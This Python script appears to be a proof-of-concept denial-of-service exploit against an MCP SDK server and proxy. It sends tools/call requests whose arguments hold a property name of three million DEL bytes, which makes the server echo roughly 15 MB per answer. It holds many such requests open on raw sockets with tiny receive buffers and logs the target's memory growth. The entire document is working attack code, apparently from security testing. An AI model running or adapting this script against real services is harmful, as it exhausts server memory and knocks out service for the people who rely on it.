#!/usr/bin/env python3
"""mcpecho13a.py: the MCP SDK's argument validation quotes an unexpected property name unclipped
(%q: a DEL byte comes back as \\x7f, then JSON-escaped): a tools/call of search_tools (proxy) or
route (daemon) whose arguments hold one property named by N (3,000,000) DEL bytes is answered in
about 15 MB. CONC such calls on raw sockets (4 KB receive buffer) from one session of WHO, read
nothing for HOLD s; prints the target's RSS every 2 s and one answer's size.
usage: mcpecho13a.py DIR TARGET(MCP|PROXY) CONC HOLD"""
import os, sys, json, time, socket
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), 'amp10a')); import mcp10
d, target, conc, hold = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
env = dict(l.strip().split('=', 1) for l in open(os.path.join(d, 'env')) if '=' in l)
tok = {l.split()[0]: l.split()[2] for l in open(os.path.join(d, 'tokens'))}
pid = env['PROXY_PID'] if target == 'PROXY' else env['PID']
who, tool = ('caller', 'search_tools') if target == 'PROXY' else ('carol', 'route')
N = int(os.environ.get('N', '3000000'))
def st():
    s = {l.split(':')[0]: int(l.split()[1]) // 1024 for l in open(f'/proc/{pid}/status') if l.startswith(('VmRSS', 'VmHWM'))}
    return 'RSS %d MB (peak %d) load %s' % (s['VmRSS'], s['VmHWM'], open('/proc/loadavg').read().split()[0])
sid = mcp10.Session(env[target], tok[who]).sid
host, port = env[target].split(':')
print('before', st(), flush=True)
socks = []
for i in range(conc):
    body = json.dumps({'jsonrpc': '2.0', 'id': 100 + i, 'method': 'tools/call', 'params': {'name': tool, 'arguments': {'query': 'x', '\x7f' * N: 1}}}, ensure_ascii=False).encode()
    s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096); s.connect((host, int(port)))
    s.sendall(b'POST /mcp HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer %s\r\nContent-Type: application/json\r\nAccept: application/json, text/event-stream\r\n'
              b'Mcp-Session-Id: %s\r\nMcp-Protocol-Version: 2025-06-18\r\nContent-Length: %d\r\n\r\n' % (tok[who].encode(), sid.encode(), len(body)) + body)
    socks.append(s)
for k in range(hold // 2):
    time.sleep(2); print('%3ds' % (2 * k + 2), st(), flush=True)
s = socks[0]; s.settimeout(20); n = 0
try:
    while True:
        b = s.recv(1 << 20)
        if not b: break
        n += len(b)
except Exception: pass
print('one answer', n, 'bytes')
for s in socks: s.close()
time.sleep(2); print('after', st())
